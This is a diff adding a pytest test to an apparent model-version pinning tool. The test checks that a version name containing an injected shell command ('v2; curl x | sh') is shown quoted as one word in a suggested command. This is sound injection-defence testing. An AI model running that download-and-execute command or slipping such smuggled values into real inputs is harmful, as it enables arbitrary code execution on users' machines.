@@ -59,6 +59,13 @@ def test_a_version_that_was_rolled_back_is_not_moved_to_unasked(tmp_path):
     assert _wanted("v3", model, ledger) == "v3"
 
 
+def test_a_served_name_in_a_command_to_copy_is_one_word(tmp_path):
+    """A reply names whom it likes."""
+    odd = "v2; curl x | sh"
+    with pytest.raises(ModelpinError, match=r"promote support --to 'v2; curl x \| sh'`"):
+        _wanted(odd, Model("support", "v1", ignore=(odd,)), FolderLedger(tmp_path))
+
+
 def test_nor_is_one_that_a_person_turned_down_in_its_pull_request(tmp_path):
     model, ledger = Model("support", "v1"), FolderLedger(tmp_path)
     ledger.decide(Decision("support", "v2", "no", "closed #12 unmerged"))
